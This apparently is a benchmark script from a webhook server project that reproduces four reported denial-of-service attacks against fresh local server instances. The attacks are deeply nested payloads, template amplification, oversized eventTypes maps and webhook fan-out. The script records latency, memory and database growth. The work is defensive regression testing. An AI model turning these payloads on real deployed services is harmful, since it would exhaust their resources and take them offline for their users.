/**
 * The write-key denial-of-service reproductions of issue 13, each against a fresh server
 * process started from a source checkout (this one by default, `--checkout DIR` for another):
 *
 * - `multipart`: a 200 KB multipart `PUT /webhooks` whose `customPayload` nests 100,000 deep;
 * - `template`: a 13 KB template of 1,000 × `"{{fields}}"` and one event of 100 KB of fields;
 * - `event-types`: 40 webhooks with 75,000 `eventTypes` keys each in one workspace, a `PUT` in
 *   another workspace, then one `POST /events` in the first;
 * - `fan-out`: up to 300 webhooks in one workspace (as many as it may have), then one event of
 *   1 MB of fields that every one of them matches.
 *
 * For each it prints the answers, how long they took, the longest `GET /health` answer while it
 * ran (a stalled event loop shows there), the server's peak RSS (VmHWM) and the size of the
 * database with its WAL. Run: `npx bun bench/attacks.ts [--checkout DIR] [--only NAME]`.
 */

import { mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { spawnServer } from "../scripts/lib/executable.ts";
import { peakRssMb } from "./rss.ts";

interface Target {
  baseUrl: string;
  pid: number;
  keys: Record<"acme" | "other", string>;
  receiverUrl: string;
  dataDir: string;
}

interface Finding {
  attack: string;
  answers: string;
  elapsedMs: number;
  healthMaxMs: number;
  peakRssMb: number | null;
  databaseMb: number;
  note: string;
}

function option(name: string): string | undefined {
  const index = process.argv.indexOf(name);
  return index === -1 ? undefined : process.argv[index + 1];
}

const checkout = resolve(option("--checkout") ?? join(import.meta.dir, ".."));
const bun = process.execPath;

async function createKey(dbPath: string, workspace: string): Promise<string> {
  const proc = Bun.spawn(
    [bun, "src/main.ts", "keys", "create", "--workspace", workspace, "--access", "write"],
    { cwd: checkout, env: { ...process.env, HOOKPOST_DB_PATH: dbPath }, stdout: "pipe" },
  );
  const out = await new Response(proc.stdout).text();
  if ((await proc.exited) !== 0) throw new Error(`keys create failed: ${out}`);
  return out.trim().split("\n").at(-1) ?? "";
}

/** Polls `GET /health` one request after another and keeps the slowest answer's time. */
function watchHealth(baseUrl: string) {
  let slowest = 0;
  let running = true;
  const loop = (async () => {
    while (running) {
      const started = performance.now();
      await fetch(`${baseUrl}/health`).catch(() => null);
      slowest = Math.max(slowest, performance.now() - started);
      await Bun.sleep(20);
    }
  })();
  return async () => {
    running = false;
    await loop;
    return Math.round(slowest);
  };
}

function databaseMb(dataDir: string): number {
  let bytes = 0;
  for (const name of readdirSync(dataDir)) bytes += statSync(join(dataDir, name)).size;
  return Math.round((bytes / 1024 / 1024) * 10) / 10;
}

async function withServer(
  run: (target: Target) => Promise<Omit<Finding, "peakRssMb" | "databaseMb">>,
) {
  const root = mkdtempSync(join(tmpdir(), "hookpost-attacks-"));
  const dataDir = join(root, "data");
  const dbPath = join(dataDir, "hookpost.db");
  const keys = { acme: await createKey(dbPath, "acme"), other: await createKey(dbPath, "other") };
  let received = 0;
  const receiver = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    async fetch(request) {
      received += (await request.arrayBuffer()).byteLength;
      return new Response("ok");
    },
  });
  const server = await spawnServer({
    command: [bun, "src/main.ts", "serve"],
    cwd: checkout,
    env: {
      HOOKPOST_DB_PATH: dbPath,
      HOOKPOST_PLUGINS_DIR: join(root, "plugins"),
      HOOKPOST_ALLOW_PRIVATE_TARGETS: "true",
      HOOKPOST_LOG_LEVEL: "info",
      HOOKPOST_RETRY_BASE_MS: "60000",
    },
    readyTimeoutMs: 30_000,
  });
  try {
    const finding = await run({
      baseUrl: server.baseUrl,
      pid: server.proc.pid,
      keys,
      receiverUrl: `http://127.0.0.1:${receiver.port}/hook`,
      dataDir,
    });
    return {
      ...finding,
      note: `${finding.note}; receiver got ${(received / 1024 / 1024).toFixed(1)} MB`,
      peakRssMb: peakRssMb(server.proc.pid),
      databaseMb: databaseMb(dataDir),
    } satisfies Finding;
  } finally {
    server.proc.kill("SIGKILL");
    await server.proc.exited;
    receiver.stop(true);
    rmSync(root, { recursive: true, force: true });
  }
}

async function timed<T>(work: () => Promise<T>): Promise<[T, number]> {
  const started = performance.now();
  const value = await work();
  return [value, Math.round(performance.now() - started)];
}

function jsonRequest(key: string, method: string, body: unknown): RequestInit {
  return {
    method,
    headers: { "x-api-key": key, "content-type": "application/json" },
    body: JSON.stringify(body),
  };
}

async function countWebhooks(target: Target, workspace: "acme" | "other"): Promise<number> {
  const response = await fetch(`${target.baseUrl}/webhooks`, {
    headers: { "x-api-key": target.keys[workspace] },
  });
  const list = (await response.json()) as unknown[];
  return list.length;
}

async function multipart(target: Target) {
  const depth = 100_000;
  const form = new FormData();
  form.set("endpoint", target.receiverUrl);
  form.set("useCustomPayload", "true");
  form.set("customPayload", `${"[".repeat(depth)}${"]".repeat(depth)}`);
  const stopWatching = watchHealth(target.baseUrl);
  const [status, elapsedMs] = await timed(async () => {
    const response = await fetch(`${target.baseUrl}/webhooks`, {
      method: "PUT",
      headers: { "x-api-key": target.keys.acme },
      body: form,
    });
    await response.arrayBuffer();
    return response.status;
  });
  const healthMaxMs = await stopWatching();
  return {
    attack: "multipart PUT, 100,000-deep customPayload",
    answers: String(status),
    elapsedMs,
    healthMaxMs,
    note: `webhooks stored: ${await countWebhooks(target, "acme")}`,
  };
}

interface LogPage {
  items: { state: string; lastError: string | null }[];
}

async function template(target: Target) {
  const created = await fetch(
    `${target.baseUrl}/webhooks`,
    jsonRequest(target.keys.acme, "PUT", {
      endpoint: target.receiverUrl,
      eventTypes: { article: [0] },
      useCustomPayload: true,
      customPayload: Array.from({ length: 1000 }, () => "{{fields}}"),
    }),
  );
  const webhook = (await created.json()) as { id?: string };
  const stopWatching = watchHealth(target.baseUrl);
  const started = performance.now();
  const [publishedStatus] = await publish(target, "c_big", { body: "x".repeat(100_000) });
  // Until the delivery ends (or 60 s), then 20 s more of watching /health as the issue did.
  let outcome = "still pending after 60 s";
  while (performance.now() - started < 60_000 && webhook.id) {
    const log = await fetch(`${target.baseUrl}/webhooks/${webhook.id}/events`, {
      headers: { "x-api-key": target.keys.acme },
    });
    const page = (await log.json()) as LogPage;
    const entry = page.items[0];
    if (entry && entry.state !== "pending" && entry.state !== "processing") {
      outcome = `${entry.state}${entry.lastError ? ` (${entry.lastError.slice(0, 120)})` : ""}`;
      break;
    }
    await Bun.sleep(50);
  }
  const elapsedMs = Math.round(performance.now() - started);
  await Bun.sleep(Math.max(0, 20_000 - elapsedMs));
  const healthMaxMs = await stopWatching();
  return {
    attack: "template 1,000 × {{fields}}, 100 KB event",
    answers: `PUT ${created.status}, POST /events ${publishedStatus}`,
    elapsedMs,
    healthMaxMs,
    note: `delivery ${outcome}`,
  };
}

/**
 * Creates up to `count` disabled webhooks of workspace acme with `eventTypes`, stopping at the
 * first refusal; answers how many of each status came back, e.g. `40×400`.
 */
async function createDisabledWebhooks(
  target: Target,
  count: number,
  eventTypesMap: Record<string, number[]>,
): Promise<string> {
  const statuses = new Map<number, number>();
  for (let index = 0; index < count; index++) {
    const response = await fetch(
      `${target.baseUrl}/webhooks`,
      jsonRequest(target.keys.acme, "PUT", {
        endpoint: target.receiverUrl,
        eventTypes: eventTypesMap,
        enabled: false,
      }),
    );
    await response.arrayBuffer();
    statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
    if (response.status !== 200 && response.status !== 400) break;
  }
  return [...statuses].map(([code, count]) => `${count}×${code}`).join(" ");
}

/** Enables every webhook of workspace acme; answers how many there are. */
async function enableAll(target: Target): Promise<number> {
  const list = (await (
    await fetch(`${target.baseUrl}/webhooks`, { headers: { "x-api-key": target.keys.acme } })
  ).json()) as { id: string }[];
  for (const { id } of list) {
    await fetch(`${target.baseUrl}/webhooks/${id}/enable`, {
      method: "POST",
      headers: { "x-api-key": target.keys.acme },
    });
  }
  return list.length;
}

/** One `POST /events` of an `article` in workspace acme: its status and how long it took. */
function publish(target: Target, contentId: string, fields: Record<string, unknown>) {
  return timed(async () => {
    const response = await fetch(
      `${target.baseUrl}/events`,
      jsonRequest(target.keys.acme, "POST", {
        eventType: 0,
        contentType: "article",
        contentId,
        fields,
      }),
    );
    await response.arrayBuffer();
    return response.status;
  });
}

async function eventTypes(target: Target) {
  const eventTypesMap: Record<string, number[]> = { article: [0] };
  for (let index = 0; index < 75_000; index++) eventTypesMap[`t${index}`] = [0];
  const answers = await createDisabledWebhooks(target, 40, eventTypesMap);
  // Enabled only now, so the 40 × 852 KB sit in the ingest cache, as in the report.
  await enableAll(target);
  await publish(target, "c_1", {});
  await fetch(
    `${target.baseUrl}/webhooks`,
    jsonRequest(target.keys.other, "PUT", {
      endpoint: target.receiverUrl,
      eventTypes: { article: [0] },
    }),
  );
  const stopWatching = watchHealth(target.baseUrl);
  const [status, elapsedMs] = await publish(target, "c_1", {});
  const healthMaxMs = await stopWatching();
  return {
    attack: "40 × 75,000 eventTypes, PUT elsewhere, POST /events",
    answers: `PUTs ${answers}, POST /events ${status}`,
    elapsedMs,
    healthMaxMs,
    note: "time is of the POST /events after the other workspace's PUT",
  };
}

/** As many webhooks as a workspace may have (or 300 where nothing stops it), one ~1 MB event. */
async function fanOut(target: Target) {
  const answers = await createDisabledWebhooks(target, 300, { article: [0] });
  const webhooks = await enableAll(target);
  const stopWatching = watchHealth(target.baseUrl);
  const [status, elapsedMs] = await publish(target, "c_big", { body: "x".repeat(1_000_000) });
  const healthMaxMs = await stopWatching();
  return {
    attack: `${webhooks} webhooks, one 1 MB event`,
    answers: `PUTs ${answers}, POST /events ${status}`,
    elapsedMs,
    healthMaxMs,
    note: "time is of the POST /events that fans out",
  };
}

const attacks = {
  multipart,
  template,
  "event-types": eventTypes,
  "fan-out": fanOut,
} as const;
const only = option("--only");
console.log(`checkout: ${checkout}`);
for (const [name, attack] of Object.entries(attacks)) {
  if (only && only !== name) continue;
  const finding = await withServer(attack);
  console.log(
    [
      finding.attack,
      `  answers: ${finding.answers}`,
      `  time: ${finding.elapsedMs} ms · slowest /health: ${finding.healthMaxMs} ms · ` +
        `peak RSS: ${finding.peakRssMb} MB · database+WAL: ${finding.databaseMb} MB`,
      `  ${finding.note}`,
    ].join("\n"),
  );
}
